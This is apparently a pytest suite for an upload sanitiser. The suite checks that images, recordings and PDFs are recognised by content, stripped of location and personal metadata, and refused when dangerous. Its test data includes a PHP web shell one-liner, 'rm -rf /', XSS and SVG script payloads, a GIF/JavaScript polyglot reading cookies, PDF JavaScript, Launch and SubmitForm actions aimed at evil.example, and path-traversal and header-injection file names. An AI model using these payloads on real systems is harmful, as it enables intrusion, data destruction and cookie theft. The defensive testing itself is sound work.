"""What is taken, what is drawn or built anew, and what is refused: honest files and attacks."""

import io
import shutil
import struct
import subprocess
import zipfile

import pytest
from PIL import Image

from fangxin.files import names
from fangxin.files.cleaning import clean
from fangxin.files.sniffing import AMR, AMR_WB, GIF, JPEG, M4A, MP3, OGG, PDF, PNG, WAV, WEBP, sniff
from fangxin.kernel.errors import BadInput
from files.specimens import (
    SECRET,
    amr,
    amr_wide,
    animation,
    archive,
    bomb,
    box,
    m4a,
    mp3,
    ogg,
    packed,
    pdf,
    photo,
    picture,
    stream,
    wav,
)

PIXELS = 1_000_000
PHP = b"<?php system($_GET[0]); __halt_compiler();"
HTML = b"<!doctype html><html><script>alert(1)</script></html>"


def cleaned(content: bytes) -> bytes:
    return clean(content, pixels=PIXELS).content


def refused(content: bytes) -> str:
    """The code of the refusal; fails if there is none."""
    with pytest.raises(BadInput) as caught:
        clean(content, pixels=PIXELS)
    return caught.value.code


def opened(content: bytes) -> Image.Image:
    image = Image.open(io.BytesIO(content))
    image.load()
    return image


# --- by content, not by name -------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("content", "media_type"),
    [
        (picture("JPEG"), JPEG),
        (picture("PNG"), PNG),
        (picture("WEBP"), WEBP),
        (picture("GIF"), GIF),
        (pdf(), PDF),
        (mp3(), MP3),
        (mp3(tag=b"TIT2" + bytes(20)), MP3),
        (wav(), WAV),
        (amr(), AMR),
        (amr_wide(), AMR_WB),
        (ogg(), OGG),
        (m4a(), M4A),
    ],
    ids=lambda value: value if isinstance(value, str) else "",
)
def test_a_file_is_what_its_content_says(content, media_type):
    assert sniff(content) == media_type
    assert clean(content, pixels=PIXELS).media_type == media_type


@pytest.mark.parametrize(
    ("content", "code"),
    [
        (b"", "files.empty"),
        (archive(), "files.not_taken"),
        (archive("word/document.xml", "<w/>"), "files.not_taken"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500), "files.not_taken"),  # Word before 2007, with macros or without
        (b"MZ\x90\0" + bytes(500), "files.not_taken"),
        (b"\x7fELF" + bytes(500), "files.not_taken"),
        (b"#!/bin/sh\nrm -rf /\n", "files.not_taken"),
        (HTML, "files.not_taken"),
        (b"<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>", "files.not_taken"),
        (b"<svg onload=alert(1)>", "files.not_taken"),
        (PHP, "files.not_taken"),
        (b"Rar!\x1a\x07\x01\0" + bytes(100), "files.not_taken"),
        ("只是一段文字".encode(), "files.not_taken"),
        (b"BM" + bytes(100), "files.not_taken"),
        (b"II*\0" + bytes(100), "files.not_taken"),
        (b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + bytes(100), "files.heic"),
        (b"%!PS-Adobe-3.0\n" + bytes(100), "files.not_taken"),
    ],
)
def test_what_is_not_on_the_list_is_refused(content, code):
    assert refused(content) == code


def test_the_refusal_says_what_the_file_seems_to_be():
    with pytest.raises(BadInput, match=r"Files of this kind \(EXE\) are not taken"):
        sniff(b"MZ\x90\0" + bytes(500))


# --- images ------------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("format_", ["JPEG", "PNG", "WEBP"])
def test_place_maker_and_comment_are_gone_from_a_photo(format_):
    sent = photo(format_)
    assert opened(sent).getexif().get_ifd(0x8825), "the photo tells where it was taken"

    kept = cleaned(sent)

    image = opened(kept)
    assert (image.size, dict(image.getexif()), image.getexif().get_ifd(0x8825)) == ((40, 30), {}, {})
    assert [mark for mark in (SECRET, b"Jining Phone", b"Lin Xiaomei", b"Exif", b"eXIf", b"xmpmeta", b"GPS") if mark in kept] == []
    assert set(image.info) <= {"jfif", "jfif_version", "jfif_unit", "jfif_density", "loop", "background", "timestamp", "duration"}


def test_a_photo_taken_sideways_is_turned_upright_before_its_orientation_is_dropped():
    kept = opened(cleaned(photo(orientation=6)))  # to be turned a quarter clockwise: its left half comes on top

    assert kept.size == (30, 40)
    assert kept.getpixel((15, 5))[0] > 180 > 100 > kept.getpixel((15, 35))[0]


@pytest.mark.parametrize("behind", [archive(), HTML, PHP, b"MZ\x90\0" + bytes(300), pdf(), b"Rar!\x1a\x07\0" + bytes(50)])
@pytest.mark.parametrize("format_", ["JPEG", "PNG", "WEBP", "GIF"])
def test_what_is_appended_to_a_picture_does_not_go_on(format_, behind):
    sent = picture(format_) + behind

    kept = cleaned(sent)

    assert behind not in kept
    assert behind[:16] not in kept
    assert not zipfile.is_zipfile(io.BytesIO(kept))
    assert opened(kept).size == (40, 30)


def test_php_in_a_comment_and_html_in_a_chunk_do_not_go_on():
    commented = picture("JPEG", comment=PHP)
    png = picture("PNG")
    text = b"Comment\0" + HTML
    chunk = struct.pack(">I", len(text)) + b"tEXt" + text + bytes(4)
    import zlib  # noqa: PLC0415 -- for one checksum

    chunk = chunk[:-4] + struct.pack(">I", zlib.crc32(b"tEXt" + text))
    with_text = png[:33] + chunk + png[33:]
    assert PHP in commented
    assert HTML in with_text

    assert b"<?php" not in cleaned(commented)
    assert b"<script" not in cleaned(with_text)


def test_a_picture_that_is_a_script_at_the_same_time_is_drawn_anew_or_refused():
    """GIF89a=1;… is JavaScript whose first word is a GIF's beginning."""
    script = b"GIF89a/*" + bytes(20) + b"*/=1;alert(1)//"
    gif = picture("GIF")
    polyglot = gif[:6] + b"\x2f\x2a" + gif[8:] + b"*/=1;alert(document.cookie)//"

    assert refused(script) == "files.image_damaged"
    try:
        kept = cleaned(polyglot)
    except BadInput:
        return
    assert b"alert" not in kept


@pytest.mark.parametrize(
    "content", [picture("JPEG")[:300], picture("PNG")[:60], picture("WEBP")[:40], b"\xff\xd8\xff" + HTML, b"GIF89a" + bytes(40)]
)
def test_a_damaged_picture_is_refused(content):
    assert refused(content) == "files.image_damaged"


def test_a_picture_that_would_fill_the_memory_is_refused_before_it_is_unpacked():
    assert len(bomb()) < 1000
    assert refused(bomb()) == "files.too_many_pixels"
    assert refused(picture("PNG", size=(1001, 1000))) == "files.too_many_pixels"
    assert refused(animation("GIF", frames=301)) == "files.too_many_pixels"


@pytest.mark.parametrize("format_", ["GIF", "WEBP", "PNG"])
def test_an_animation_keeps_its_pictures(format_):
    assert opened(cleaned(animation(format_))).n_frames == 3


@pytest.mark.parametrize(("format_", "mode"), [("JPEG", "L"), ("JPEG", "CMYK"), ("PNG", "1"), ("PNG", "P"), ("PNG", "LA"), ("PNG", "RGBA"), ("PNG", "I;16"), ("WEBP", "RGBA")])  # fmt: skip
def test_every_kind_of_colour_can_be_drawn_anew(format_, mode):
    assert opened(cleaned(picture(format_, mode=mode))).size == (40, 30)


# --- sound -------------------------------------------------------------------------------------------------------------------


def test_tags_of_a_recording_are_gone():
    tagged = mp3(tag=b"COMM" + SECRET + bytes(30), after=b"TAG" + b"Lin Xiaomei".ljust(125))
    with_place = m4a()
    listed = wav(extra=b"LIST" + struct.pack("<I", 20) + b"INFOIART" + b"Lin Xiaomei\0")
    assert SECRET in tagged
    assert SECRET in with_place

    assert cleaned(tagged) == mp3()
    assert SECRET not in cleaned(with_place)
    assert b"<?php" not in cleaned(with_place)
    assert len(cleaned(with_place)) == len(with_place), "what others point at stays where it is"
    assert b"Lin" not in cleaned(listed)


@pytest.mark.parametrize("behind", [archive(), HTML, PHP, b"MZ\x90\0" + bytes(300)])
@pytest.mark.parametrize("made", [mp3, amr, ogg, m4a])
def test_what_is_appended_to_a_recording_is_refused(made, behind):
    assert refused(made(after=behind)) in {"files.sound_damaged", "files.two_in_one"}


def test_what_is_appended_to_a_wav_does_not_go_on():
    assert cleaned(wav(extra=archive())) == cleaned(wav())


def test_an_archive_in_the_place_of_the_sound_is_refused():
    hidden = box(b"ftyp", b"M4A \0\0\0\0") + m4a()[16:][: -8 - 300] + box(b"mdat", archive())
    assert refused(hidden) == "files.two_in_one"


@pytest.mark.parametrize("content", [m4a(b"vide"), m4a(b"soun", b"vide"), ogg(b"\x80theora" + bytes(20))])
def test_a_video_is_refused(content):
    assert refused(content) == "files.not_sound"


@pytest.mark.parametrize("content", [mp3(2), b"ID3\x04\0\0\0\0\0\x05abcde" + HTML, b"OggS" + bytes(100), b"#!AMR\necho hello\n", b"RIFF\0\0\0\0WAVE" + archive(), b"\0\0\0\x10ftypM4A \0\0\0\0", box(b"ftyp", b"M4A \0\0\0\0") + box(b"trak") * 3])  # fmt: skip
def test_what_only_begins_like_a_recording_is_refused(content):
    assert refused(content) in {"files.sound_damaged", "files.two_in_one"}


def test_boxes_nested_without_end_are_refused():
    deep = b""
    for _ in range(2000):
        deep = box(b"trak", deep)

    assert refused(box(b"ftyp", b"M4A \0\0\0\0") + box(b"moov", deep)) == "files.sound_damaged"


# --- PDF ---------------------------------------------------------------------------------------------------------------------

SCRIPT = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"


def test_a_plain_pdf_goes_on_as_it_is():
    plain = pdf(stream(b"BT (Hello \\(you\\)) Tj ET"), packed(b"<< /Title (x) >>"), b"(a (nested) string with /JS and 4 0 R)")

    assert cleaned(plain) == plain


@pytest.mark.parametrize(
    ("content", "code"),
    [
        (pdf(SCRIPT), "files.pdf_acting"),
        (pdf(b"<< /S /J#61vaScript /#4aS (app.alert) >>"), "files.pdf_acting"),
        (pdf(b"<< /S /Launch /F (cmd.exe) >>"), "files.pdf_acting"),
        (pdf(b"<< /S /SubmitForm /F (http://evil.example) >>"), "files.pdf_acting"),
        (pdf(b"<< /AcroForm << /XFA 5 0 R >> >>"), "files.pdf_acting"),
        (pdf(b"<< /Subtype /RichMedia >>"), "files.pdf_acting"),
        (pdf(packed(SCRIPT)), "files.pdf_acting"),
        (pdf(packed(SCRIPT, entries=b"/N 1 /First 4 ")), "files.pdf_acting"),
        (pdf(packed(SCRIPT, entries=b"/Type 7 0 R /N 1 /First 4 ")), "files.pdf_acting"),
        (pdf(packed(SCRIPT, entries=b"/T#79pe /ObjStm /N 1 /First 4 ")), "files.pdf_acting"),
        (pdf(stream(SCRIPT, b"/Type /ObjStm /N 1 /First 0 ")), "files.pdf_acting"),
        (pdf(packed(b"null", filter_=b"/Filter [/ASCIIHexDecode /FlateDecode] ")), "files.pdf_unreadable"),
        (pdf(packed(b"null", filter_=b"/Filter 8 0 R ")), "files.pdf_unreadable"),
        (pdf(packed(b"null", filter_=b"/Filter /FlateDecode /Filter /LZWDecode ")), "files.pdf_damaged"),
        (pdf(packed(b"null", filter_=b"/Filter /LZWDecode ")), "files.pdf_unreadable"),
        (pdf(b"<< /Type /EmbeddedFile >>"), "files.pdf_carrying"),
        (pdf(b"<< /Names << /EmbeddedFiles 5 0 R >> >>"), "files.pdf_carrying"),
        (pdf(b"<< /Subtype /FileAttachment >>"), "files.pdf_carrying"),
        (pdf(trailer=b"/Encrypt 4 0 R "), "files.pdf_encrypted"),
        (pdf(b"<< /Length 0 /F (other.bin) >>\nstream\n\nendstream"), "files.pdf_unreadable"),
        (pdf(before=b"\n"), "files.pdf_prefix"),
        (pdf(before=HTML), "files.pdf_prefix"),
        (pdf(before=b"MZ\x90\0" + bytes(100)), "files.pdf_prefix"),
        (pdf(after=archive()), "files.pdf_foreign"),
        (pdf(after=HTML), "files.pdf_foreign"),
        (pdf(after=PHP), "files.pdf_foreign"),
        (pdf(stream(archive() + bytes(20))), "files.two_in_one"),
        (pdf(stream(b"Rar!\x1a\x07\x01\0")), "files.two_in_one"),
        (pdf(stream(HTML)), "files.two_in_one"),
        (pdf(stream(b"7 0 obj\n" + SCRIPT + b"\nendobj")), "files.pdf_hidden"),
        (pdf(b"(7 0 obj\n<< /S /JavaScript >>\nendobj)"), "files.pdf_hidden"),
        (pdf().replace(b"%\xe2\xe3\xcf\xd3", b"%7 0 obj << /S /J /X /JavaScript >> endobj"), "files.pdf_hidden"),
        (pdf().replace(b"%\xe2\xe3\xcf\xd3", b"%" + b"x" * 20_000), "files.pdf_damaged"),
        (b"%PDF-1.7\nhello", "files.pdf_foreign"),
        (b"%PDF-9.9\n" + pdf()[9:], "files.pdf_damaged"),
        (pdf()[:-7], "files.pdf_damaged"),
        (pdf(b"<< /Unfinished (string"), "files.pdf_damaged"),
        (pdf(b"<< >>\nstream\nwithout an end"), "files.pdf_damaged"),
    ],
)
def test_a_pdf_that_acts_hides_or_is_more_than_a_pdf_is_refused(content, code):
    assert refused(content) == code


def test_object_streams_that_unpack_without_end_are_refused():
    assert refused(pdf(packed(bytes(65 << 20)))) == "files.pdf_too_large"


@pytest.mark.skipif(not shutil.which("soffice"), reason="needs LibreOffice")
def test_what_libreoffice_makes_is_taken(tmp_path):
    (tmp_path / "letter.html").write_text("<p>关于电热水壶的投诉</p>", "utf-8")
    command = ["soffice", f"-env:UserInstallation=file://{tmp_path}/profile", "--headless", "--convert-to", "pdf:writer_web_pdf_Export"]
    subprocess.run([*command, "--outdir", tmp_path, tmp_path / "letter.html"], check=True, capture_output=True, timeout=120)
    made = (tmp_path / "letter.pdf").read_bytes()

    assert cleaned(made) == made


def test_what_pillow_and_pypdf_make_is_taken():
    from pypdf import PdfReader, PdfWriter  # noqa: PLC0415 -- for this test alone

    scanned = picture("PDF")
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(scanned)))
    written = io.BytesIO()
    writer.write(written)
    assert cleaned(scanned) == scanned
    assert cleaned(written.getvalue()) == written.getvalue()

    writer.add_attachment("other.exe", b"MZ")
    carrying = io.BytesIO()
    writer.write(carrying)
    assert refused(carrying.getvalue()) == "files.pdf_carrying"


# --- names -------------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "media_type", "kept"),
    [
        ("发票.jpg", JPEG, "发票.jpg"),
        ("发票.JPEG", JPEG, "发票.jpeg"),
        ("setup.exe", JPEG, "setup_exe.jpg"),
        ("photo.php.png", PNG, "photo.php.png"),
        ("../../etc/passwd", PDF, "passwd.pdf"),
        ("C:\\Users\\lin\\合同.pdf", PDF, "合同.pdf"),
        ("a\r\nSet-Cookie: x=1.pdf", PDF, "a Set-Cookie_ x=1.pdf"),
        ("gnp\u202e.exe", PNG, "gnp_exe.png"),
        ('x";filename="evil.html', PDF, "x_filename=_evil_html.pdf"),
        ("", AMR, "file.amr"),
        ("...", AMR, "file.amr"),
        ("录" * 300 + ".mp3", MP3, "录" * 100 + ".mp3"),
    ],
)
def test_a_name_is_made_harmless_and_its_ending_fits_the_content(name, media_type, kept):
    assert names.cleaned(name, media_type) == kept


def test_personal_data_in_a_name_is_masked():
    assert names.shown("13805371234的录音.mp3") == "138****1234的录音.mp3"
    assert names.shown("微信图片_20261120101530.jpg") == "微信图片_20261120101530.jpg"
